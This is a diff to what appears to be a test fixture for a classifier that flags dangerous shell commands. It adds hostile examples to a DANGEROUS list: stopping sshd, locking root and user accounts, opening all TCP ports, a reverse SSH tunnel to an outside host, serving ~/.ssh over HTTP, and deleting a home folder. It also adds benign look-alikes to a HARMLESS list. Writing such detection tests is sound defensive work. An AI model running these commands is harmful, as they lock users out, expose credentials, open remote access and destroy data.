@@ -125,6 +125,13 @@ DANGEROUS = {
         "jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''",
         "code-server --auth none --bind-addr 0.0.0.0:8080",
     ],
+    "spellings: xargs, default values, brace lists, ranges, reverse tunnels, hidden folders": [
+        "echo sshd | xargs sudo systemctl stop", "printf 'root\\n' | xargs sudo passwd -l",
+        "sudo usermod -L ${SUDO_USER:-$USER}", "sudo ufw allow 1:65535/tcp",
+        "autossh -M 0 -N -R 2222:localhost:22 me@vps.example.net",
+        "cd ~/.ssh && python3 -m http.server 8000",
+        "ruby -e 'FileUtils.rm_rf(Dir.glob(File.join(Dir.home, \"Music\", \"*\")))'",
+    ],
     "more memory, processes, leaks and whole stores": [
         "python3 -c \"import psutil; [p.kill() for p in psutil.process_iter()]\"",
         "python3 -c \"x = ' ' * 10**12\"", "python3 -c 'b = bytearray(2**40)'",
@@ -195,6 +202,8 @@ HARMLESS = [
     "rm -rf ~/Desktop/old-notes", "docker system prune -f", "docker volume ls",
     "aws s3 rm s3://bucket/tmp/file.txt", "kubectl delete pod web-1",
     "pkill -f 'python app.py'", "sudo systemctl restart systemd-resolved",
+    "ufw allow 8000:8010/tcp", "echo ssh | xargs -I{} systemctl status {}",
+    "autossh -M 0 -N -L 5432:localhost:5432 db.example.net", "jupyter lab --ip=0.0.0.0",
 ]
 
 
